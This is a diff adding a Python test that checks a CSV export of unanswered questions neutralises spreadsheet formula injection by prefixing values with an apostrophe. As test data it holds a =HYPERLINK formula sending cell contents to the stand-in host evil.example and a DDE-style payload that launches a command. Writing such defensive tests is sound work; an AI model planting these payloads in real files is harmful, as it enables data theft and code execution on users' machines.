@@ -108,3 +108,14 @@ def test_gaps_export_as_csv(
 
     assert sorted(r["question"] for r in rows) == sorted(POOLS)
     assert {r["group"] for r in rows} == {"1"} and {r["group_size"] for r in rows} == {"3"}
+
+
+async def test_the_gaps_export_never_hands_a_spreadsheet_a_formula(moderated: Assistant) -> None:
+    """Anyone can ask "=HYPERLINK(...)": opened in a spreadsheet, it must stay text."""
+    typed = ['=HYPERLINK("http://evil.example/?"&A1,"click me") cheap flights', "+cmd|' /C calc'"]
+    await ask_unanswered(moderated.store, [*typed, "-2+3 what", "@SUM(A1) now"])
+    rows = list(csv.DictReader(io.StringIO(await moderated.moderation.gaps_csv())))
+
+    questions = sorted(r["question"] for r in rows)
+    assert questions and all(q.startswith("'") for q in questions), questions
+    assert sorted(q[1:] for q in questions) == sorted([*typed, "-2+3 what", "@SUM(A1) now"])
